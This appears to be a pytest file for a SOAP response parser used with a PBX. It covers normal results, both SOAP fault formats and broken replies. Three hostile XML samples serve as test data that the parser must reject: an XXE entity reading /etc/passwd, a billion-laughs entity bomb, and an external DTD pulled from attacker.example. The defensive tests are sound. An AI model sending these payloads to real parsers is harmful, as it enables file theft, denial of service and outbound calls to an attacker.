"""Reading the PBX's answers: results, both Fault dialects, hostile and broken XML."""

from __future__ import annotations

import pytest

from callbridge.voispeed import SoapFault, SoapResponseError, parse_response

ENV11 = "http://schemas.xmlsoap.org/soap/envelope/"
ENV12 = "http://www.w3.org/2003/05/soap-envelope"


def test_result_values() -> None:
    body = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<soap:Envelope xmlns:soap="http://www.w3.org/2001/12/soap-envelope" '
        b'xmlns:vspbx="urn:vspbx"><soap:Body><vspbx:CallReqResponse>'
        b"<user_call_id>000012A1</user_call_id><external_id>cb-1</external_id>"
        b"<note>a &amp; b</note></vspbx:CallReqResponse></soap:Body></soap:Envelope>"
    )
    result = parse_response("CallReq", body)
    assert result.command == "CallReq"
    assert result.response_element == "CallReqResponse"
    assert dict(result.values) == {
        "user_call_id": "000012A1",
        "external_id": "cb-1",
        "note": "a & b",
    }
    assert result.get("user_call_id") == "000012A1"
    assert result.get("missing") is None


def test_empty_answers_are_success() -> None:
    assert dict(parse_response("CallHold", b"").values) == {}
    empty_body = f'<s:Envelope xmlns:s="{ENV11}"><s:Body/></s:Envelope>'.encode()
    assert parse_response("CallHold", empty_body).response_element is None


def test_soap11_fault() -> None:
    body = (
        f'<s:Envelope xmlns:s="{ENV11}"><s:Body><s:Fault>'
        "<faultcode>s:Client</faultcode><faultstring>unknown user call</faultstring>"
        "</s:Fault></s:Body></s:Envelope>"
    ).encode()
    with pytest.raises(SoapFault) as info:
        parse_response("CallHold", body)
    assert info.value.code == "s:Client"
    assert info.value.text == "unknown user call"
    assert "unknown user call" in str(info.value)


def test_soap12_fault() -> None:
    body = (
        f'<env:Envelope xmlns:env="{ENV12}"><env:Body><env:Fault>'
        "<env:Code><env:Value>env:Sender</env:Value></env:Code>"
        '<env:Reason><env:Text xml:lang="en">bad credentials</env:Text></env:Reason>'
        "</env:Fault></env:Body></env:Envelope>"
    ).encode()
    with pytest.raises(SoapFault) as info:
        parse_response("CallReq", body)
    assert (info.value.code, info.value.text) == ("env:Sender", "bad credentials")


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soap:Envelope xmlns:soap="http://www.w3.org/2001/12/soap-envelope"><soap:Body>
<r><user_call_id>&xxe;</user_call_id></r></soap:Body></soap:Envelope>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<soap:Envelope xmlns:soap="http://www.w3.org/2001/12/soap-envelope"><soap:Body>
<r><v>&lol9;</v></r></soap:Body></soap:Envelope>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE soap:Envelope SYSTEM "http://attacker.example/x.dtd">
<soap:Envelope xmlns:soap="http://www.w3.org/2001/12/soap-envelope"><soap:Body/></soap:Envelope>"""


@pytest.mark.parametrize("body", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "bomb", "dtd"])
def test_hostile_answers_are_refused(body: bytes) -> None:
    with pytest.raises(SoapResponseError, match="not allowed"):
        parse_response("CallReq", body)


@pytest.mark.parametrize(
    ("body", "match"),
    [
        (b"<html><body>502 Bad Gateway</body></html>", "not a SOAP envelope"),
        (b"not xml at all", "not XML"),
        (b"<soap:Envelope xmlns:soap='x'><soap:Body>", "not XML"),
        (f'<s:Envelope xmlns:s="{ENV11}"><s:Header/></s:Envelope>'.encode(), "no Body"),
    ],
)
def test_broken_answers_are_typed_errors(body: bytes, match: str) -> None:
    with pytest.raises(SoapResponseError, match=match):
        parse_response("CallReq", body)
